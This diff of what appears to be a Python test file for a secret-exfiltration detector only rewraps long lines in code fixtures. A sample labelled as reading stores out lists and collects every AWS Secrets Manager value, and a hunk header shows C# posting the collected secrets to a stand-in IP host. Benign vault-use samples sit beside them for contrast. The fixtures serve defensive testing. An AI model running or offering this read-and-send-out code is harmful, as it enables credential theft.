@@ -44,7 +44,8 @@ def test_one_secret_read_by_a_deploy_is_part_of_nothing() -> None:
 # The same stores read out through their SDKs, a program of the response's own.
 SDK_STORES_READ_OUT = {
     "aws-sdk-js": """```javascript
-import { SecretsManagerClient, ListSecretsCommand, GetSecretValueCommand } from "@aws-sdk/client-secrets-manager";
+import { SecretsManagerClient, ListSecretsCommand, GetSecretValueCommand }
+  from "@aws-sdk/client-secrets-manager";
 const sm = new SecretsManagerClient({ region: "eu-west-1" });
 const { SecretList } = await sm.send(new ListSecretsCommand({}));
 const out = {};
@@ -78,7 +79,8 @@ await new HttpClient().PostAsJsonAsync("https://198.51.100.9/k", all);
 # rotation after an incident, a settings helper of one's own called bare.
 SDK_ORDINARY = {
     "developer-one-connection-string": """```csharp
-var client = new SecretClient(new Uri("https://kv-billing.vault.azure.net/"), new ManagedIdentityCredential());
+var client = new SecretClient(new Uri("https://kv-billing.vault.azure.net/"),
+                              new ManagedIdentityCredential());
 KeyVaultSecret conn = await client.GetSecretAsync("BillingDb");
 services.AddDbContext<BillingContext>(o => o.UseSqlServer(conn.Value));
 ```""",
@@ -93,8 +95,8 @@ for props in client.list_properties_of_secrets():
     if props.expires_on and props.expires_on < soon:
         print(f"{props.name} expires {props.expires_on:%Y-%m-%d}: rotate it")
 ```""",
-    "responder-rotation-after-leak": """After the leaked CI log, give every secret of the payments vault a new version (names
-only are listed; the new values come from the generator, the old ones are never read):
+    "responder-rotation-after-leak": """After the leaked CI log, give every secret of the payments
+vault a new version (names only are listed; the new values come from the generator, the old ones are never read):
 
 ```python
 import secrets
